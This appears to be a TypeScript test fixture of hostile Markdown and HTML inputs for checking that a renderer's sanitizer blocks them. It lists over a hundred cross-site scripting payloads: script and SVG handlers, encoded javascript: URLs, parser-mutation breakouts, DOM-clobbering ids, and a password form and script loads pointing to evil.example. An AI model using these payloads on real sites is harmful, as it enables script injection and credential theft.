/** Hostile Markdown by name; its HTML must not run, load or hide anything. */
export const hostileMarkdown: Readonly<Record<string, string>> = {
  // Elements
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  'a script with a slash': '<script/x>alert(1)</script>',
  'a script in a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'an unclosed script': '<script>alert(1)',
  'a script of SVG': '<svg><script>alert(1)</script></svg>',
  'a style': '<style>body{background:url(javascript:alert(1))}</style>',
  'a style of SVG': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  'an SVG that loads': '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  'a link of SVG': '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=9>x</text></a></svg>',
  'an SVG use': '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  'a foreign object': '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  MathML: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  'an iframe': '<iframe src="javascript:alert(1)"></iframe>',
  'an iframe with srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object': '<object data="data:text/html,<script>alert(1)</script>"></object>',
  'an embed': '<embed src="javascript:alert(1)">',
  'an applet': '<applet code="x.class"></applet>',
  'a base': '<base href="https://evil.example/"><a href="first.md">x</a>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'a link element': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'a form': '<form action="https://evil.example/"><input name=password type=password><button>x</button></form>',
  'a formaction':
    '<button formaction="javascript:alert(1)">x</button><input type=image formaction=javascript:alert(1)>',
  'a select': '<select><option onclick=alert(1)>x</select>',
  'a template': '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  'a video': '<video src=x onerror=alert(1)><source src=x onerror=alert(1)></video>',
  'an own video with handlers':
    '<video src=/media/a.mp4 autoplay onerror=alert(1) onloadstart=alert(1) style="position:fixed" crossorigin>' +
    '<source src=/media/a.webm type="video/webm" onerror=alert(1)><track src=/media/a.vtt default oncuechange=alert(1)></video>',
  'a video of another site': '<video src="https://evil.example/a.mp4" poster="https://evil.example/a.png"></video>',
  'players of other sites and schemes':
    '<video src=//evil.example/a.mp4></video> <video src="/\\evil.example/a.mp4"></video> ' +
    '<audio src="javascript:alert(1)"></audio> <audio src=" data:audio/mp3,x"></audio> ' +
    '<video src="/\t/evil.example/media/a.mp4"></video> <video src="blob:https://evil.example/media/a.mp4"></video>',
  'foreign sources and a foreign poster of an own video':
    '<video src=/media/a.mp4 poster="javascript:alert(1)"><source src="https://evil.example/a.mp4"><source ' +
    'srcset="javascript:alert(1)"><source src=/media/a.webm><track src="https://evil.example/a.vtt"></video>',
  'a source outside of a player':
    '<source src="https://evil.example/a.mp4"><picture><source src=//evil.example/a></picture>',
  'a video that is never closed':
    '<video src="/media/a.mp4"><script>alert(1)</script> <audio src=//evil.example/a.mp3>x',
  'a player in a player':
    '<video src="https://evil.example/a.mp4"><audio src=/media/a.mp3><video src=//evil.example/a.mp4></video></audio></video>',
  'a figure': '<figure onclick=alert(1) style="x" id=location><figcaption onclick=alert(1)>x</figcaption></figure>',
  'a mark':
    '<mark onclick=alert(1) class=evil>x</mark> <abbr title="&quot; onclick=alert(1)" onclick=alert(1)>x</abbr>',
  'a marquee': '<marquee onstart=alert(1)>x</marquee>',
  'a portal and a custom element':
    '<portal src="javascript:alert(1)"></portal><x-evil onclick=alert(1) is=x>x</x-evil>',
  'a whole page':
    '<html onclick=alert(1)><head><title>x</title></head><body onload=alert(1) background=x>x</body></html>',
  'a plaintext': '<plaintext><script>alert(1)</script>',
  'a doctype and an instruction': '<!DOCTYPE html [<!ENTITY x "y">]>\n\n<?xml-stylesheet href="javascript:alert(1)"?>',
  // Handlers
  'a handler': '<img src=x onerror=alert(1)>',
  'a handler in capitals': '<IMG SRC=x OnErRoR=alert(1)>',
  'a handler behind a slash': '<img/src=x/onerror=alert(1)>',
  'a handler behind a line break': '<b\nonclick\n=\nalert(1)>x</b>',
  'a handler behind a form feed': '<b\fonclick=alert(1)>x</b>',
  'a handler without a space': '<b title="x"onclick="alert(1)">x</b>',
  'a handler of references': '<b onclick="&#97;lert(1)">x</b>',
  'a handler of an opening part':
    '<details open ontoggle=alert(1)><summary onfocus=alert(1) tabindex=1>x</summary></details>',
  'a handler with a pointer': '<div onpointerrawupdate=alert(1) oncontentvisibilityautostatechange=alert(1)>x</div>',
  'a handler in a table': '<table onclick=alert(1)><tr onclick=alert(1)><td onclick=alert(1)>x</table>',
  'a style attribute': '<p style="position:fixed;inset:0;background:red">x</p>',
  // URLs
  'a javascript link': '[x](javascript:alert(1))',
  'a javascript link in mixed case': '[x](JaVaScRiPt:alert(1))',
  'a javascript link behind a space': '[x](<  javascript:alert(1)>)',
  'a javascript link behind a control character': '<a href="\u0001javascript:alert(1)">x</a>',
  'a javascript link with a tab': '<a href="java\tscript:alert(1)">x</a>',
  'a javascript link with a line break': '<a href="java\nscript:alert(1)">x</a>',
  'a javascript link of references': '<a href="&#x6A;&#97;vascript&colon;alert(1)">x</a>',
  'a javascript link of references in Markdown': '[x](&#x6A;avascript&colon;alert&lpar;1&rpar;)',
  'a javascript link with a tab reference': '[x](java&Tab;script:alert(1)) [y](&NewLine;javascript:alert(1))',
  'a javascript link with escapes': '[x](javascript%3Aalert(1)) [y](java\\script:alert(1))',
  'a javascript autolink': '<javascript:alert(1)>',
  'a javascript definition': '[x]\n\n[x]: javascript:alert(1) "title"',
  'a javascript link with a fragment': '[x](javascript:alert(1)#https://example.com)',
  'a javascript link that looks like a web URL': '[x](javascript://example.com/%0aalert(1))',
  'a vbscript link': '[x](vbscript:msgbox(1)) <vbscript:msgbox(1)>',
  'a data link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'a data image': '![x](data:image/svg+xml,<svg/onload=alert(1)>) <img src="data:text/html,x">',
  'a file and a blob': '[x](file:///etc/passwd) [y](blob:https://example.com/1) [z](filesystem:x)',
  'an image that runs': '![x](javascript:alert(1)) <img src="JAVASCRIPT:alert(1)" lowsrc="javascript:alert(1)">',
  'an image definition': '![x]\n\n[x]: vbscript:alert(1)',
  'a place of a size':
    '![x](/media/kb/map.svg) <img src=/media/kb/map.svg data-size="&#x0;" alt=\' data-size="&#x0;"\' width="1 onload=alert(1)">',
  'an image whose sources run':
    '<picture><source srcset="javascript:alert(1)"><img srcset="javascript:alert(1) 2x" src=x></picture>',
  'a quote whose source runs': '<q cite="javascript:alert(1)">x</q><blockquote cite="data:text/html,x">y</blockquote>',
  'a long description that runs': '<img src=x longdesc="javascript:alert(1)" usemap="javascript:alert(1)">',
  'a link that opens a window and reports':
    '<a href="https://example.com" target=_blank ping="https://evil.example" download>x</a>',
  // IDs and names
  'ids of the page': '<p id="location">x</p><img name="cookie" src=x><a id=body name=forms>x</a>',
  'ids of every object': '<p id="__proto__">x</p><p id="constructor">y</p><p id="toString">z</p>',
  'raw headings': '<h1 id="location">x</h1><h2 id="user">y</h2><h3 name="cookie">z</h3>',
  'headings of the page': '# Location\n\n# Name\n\n# Cookie\n\n# Body\n\n# constructor\n\n# \\_\\_proto\\_\\_',
  'a form of fields': '<form id=document><input name=cookie><input name=body type=checkbox></form>',
  'labels that refer to IDs of the page':
    '<label for=location>x</label><p aria-describedby="location" aria-labelledby=name>y</p>',
  // Markdown that becomes attributes
  'an info string': '```js onload=alert(1)\nx\n```',
  'an info string of references':
    '```js&#32;onload=alert(1)\nx\n```\n\n```a&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\ny\n```',
  'a title of code':
    '```js title="&quot; onclick=alert(1) x=&quot;"\nx\n```\n\n```js title=\'"><script>alert(1)</script>\'\ny\n```',
  'line numbers': '```js {1,onclick=alert(1)} {1-999999} {"><script>}\nx\n```',
  'the attributes of code blocks':
    '<pre data-title="x" onclick=alert(1)><code class="language-js evil" data-title="<script>" data-lines="1,onclick">x</code></pre>',
  'lines that cross elements':
    '<pre><code class=language-diff data-lines=1><b onclick=alert(1)>-x\n<script>\n</b>+y</code></pre>',
  'an info string of classes': '```x&#9;markdown-alert&#10;evil\nx\n```',
  'a footnote label': 'A[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x <script>alert(1)</script>',
  'a footnote label with an element':
    'A[^<img/src=x/onerror=alert(1)>]\n\n[^<img/src=x/onerror=alert(1)>]: [x](javascript:alert(1))',
  'a heading with an element': '# <img src=x onerror=alert(1)> "onclick=alert(1)',
  'a table cell':
    '| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <b onclick=alert(1)>x</b> | "> |',
  'an alert': '> [!NOTE]\n> <script>alert(1)</script> <b onclick=alert(1)>x</b>',
  'the classes of an alert':
    '<div class="markdown-alert evil" onclick=alert(1)><p class="markdown-alert-title evil">x</p></div>',
  'a title': '[x](first.md "&quot; onclick=alert(1) x=&quot;") ![y](x.png \'" onerror=alert(1)\')',
  'an alternative text': '![" onerror=alert(1) x="](x.png) ![<script>alert(1)</script>](y.png)',
  'an address with quotes': '[x](</blog/a"onmouseover="alert(1)>) ![y](</media/a\'onerror=\'alert(1).svg>)',
  'an address with brackets': '[x](first.md?<script>alert(1)</script>#"><img src=x onerror=alert(1)>)',
  'an address in the text':
    'https://example.com/"onclick=alert(1) www.example.com/<script>alert(1)</script> a@b.c"onclick=x',
  'a task': '- [x] <input type=text autofocus onfocus=alert(1)>',
  // HTML that changes its meaning when parsed again
  'a comment that ends early': '<!--> <script>alert(1)</script> --> <!--!> <img src=x onerror=alert(1)> -->',
  'a comment that ends oddly': '<!-- --!><script>alert(1)</script><!-- -->',
  'an unclosed comment': '<!-- <b>x',
  CDATA: '<![CDATA[<script>alert(1)</script>]]><svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
  'math and style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'svg and title':
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg><svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  'forms in forms':
    '<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'a textarea': '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'an xmp and an iframe':
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><noembed><p title="</noembed><script>alert(1)</script>"></noembed>',
  'a select in a table': '<table><select><script>alert(1)</script><td><img src=x onerror=alert(1)></select></table>',
  'a template in a table': '<table><template><tr><td><script>alert(1)</script></template></table>',
  'misnested tags': '<b><p><a href="first.md"><table><a href="javascript:alert(1)"></b></p></a></table>',
  'closing tags without opening tags': '</p></div></main></body></html><footer onclick=alert(1)>x',
  'an unclosed quote': '<img src="x\n\n<script>alert(1)</script>" onerror=alert(1)>',
  'a NUL reference': '<a href="java&#0;script:alert(1)" on&#0;click=alert(1)>x</a>',
  'characters that look like others': '＜script＞alert(1)＜/script＞ ‹img src=x onerror=alert(1)›',
};
